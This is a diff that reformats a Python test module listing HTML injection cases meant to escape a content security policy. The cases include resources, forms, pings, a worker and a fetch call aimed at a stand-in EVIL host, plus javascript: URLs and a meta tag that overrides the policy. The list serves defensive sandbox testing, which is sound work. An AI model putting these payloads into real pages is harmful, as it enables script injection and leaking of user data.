@@ -13,8 +13,8 @@ _UP = "top.ran?.push(1)"
 class Slip:
     """A piece of HTML.
 
-    ``click``: the element ``#click`` in it is pressed. ``head``: it stands there. ``needs_headers``:
-    a host must send what ``_headers`` says; opened as a file, the page cannot stop it.
+    ``click``: the element ``#click`` in it is pressed. ``head``: it stands there.
+    ``needs_headers``: a host must send what ``_headers`` says; a file's page cannot stop it.
     """
 
     name: str
@@ -60,15 +60,20 @@ SLIPS = (
     Slip("style's attribute", f'<p style="background:url({EVIL}/p.png)">x</p>'),
     Slip("style of the page", '<div style="position:fixed;inset:0;z-index:9999">x</div>'),
     Slip("style sheet", f'<link rel="stylesheet" href="{EVIL}/x.css">'),
-    Slip("style sheet as data", '<link rel="stylesheet" href="data:text/css,body{color:rgb(1,2,3)}">'),
+    Slip(
+        "style sheet as data", '<link rel="stylesheet" href="data:text/css,body{color:rgb(1,2,3)}">'
+    ),
     *(
         Slip(f"link {rel}", f'<link rel="{rel}" href="{EVIL}/x" as="script">')
         for rel in ("preload", "prefetch", "modulepreload", "icon", "manifest", "prerender")
     ),
     Slip("base", f'<base href="{EVIL}/">', head=True),
     Slip("base of another folder", '<base href="/elsewhere/">', head=True),
-    Slip("second policy", "<meta http-equiv=Content-Security-Policy content='script-src *'>"
-         f"<script>{RAN}</script>", head=True),
+    Slip(
+        "second policy",
+        f"<meta http-equiv=Content-Security-Policy content='script-src *'><script>{RAN}</script>",
+        head=True,
+    ),
     Slip("picture", f'<img src="{EVIL}/p.png">'),
     Slip("picture's set", f'<img srcset="{EVIL}/p.png 1x">'),
     Slip("picture's sources", f'<picture><source srcset="{EVIL}/p.png"><img></picture>'),
@@ -85,16 +90,29 @@ SLIPS = (
     Slip("embed", f'<embed src="{EVIL}/x">'),
     Slip("portal", f'<portal src="{EVIL}/"></portal>'),
     Slip("script's address", f'<a id="click" href="javascript:{RAN}">x</a>', click=True),
-    Slip("script's address in MathML",
-         f'<math><mtext id="click" href="javascript:{RAN}">x</mtext></math>', click=True),
+    Slip(
+        "script's address in MathML",
+        f'<math><mtext id="click" href="javascript:{RAN}">x</mtext></math>',
+        click=True,
+    ),
     Slip("ping", f'<a id="click" href="#" ping="{EVIL}/">x</a>', click=True),
     Slip("form", f'<form action="{EVIL}/"><button id="click">x</button></form>', click=True),
-    Slip("form by post", f'<form method="post" action="{EVIL}/"><input name="q" value="x">'
-         '<button id="click">x</button></form>', click=True),
-    Slip("form with a script", f'<form action="javascript:{RAN}"><button id="click">x</button></form>',
-         click=True),
-    Slip("button of another form",
-         f'<form><button id="click" formaction="{EVIL}/">x</button></form>', click=True),
+    Slip(
+        "form by post",
+        f'<form method="post" action="{EVIL}/"><input name="q" value="x">'
+        '<button id="click">x</button></form>',
+        click=True,
+    ),
+    Slip(
+        "form with a script",
+        f'<form action="javascript:{RAN}"><button id="click">x</button></form>',
+        click=True,
+    ),
+    Slip(
+        "button of another form",
+        f'<form><button id="click" formaction="{EVIL}/">x</button></form>',
+        click=True,
+    ),
     Slip("worker", f'<script>new Worker("{EVIL}/w.js"); {RAN}</script>'),
     Slip("fetch", f'<script>fetch("{EVIL}/"); {RAN}</script>'),
 )
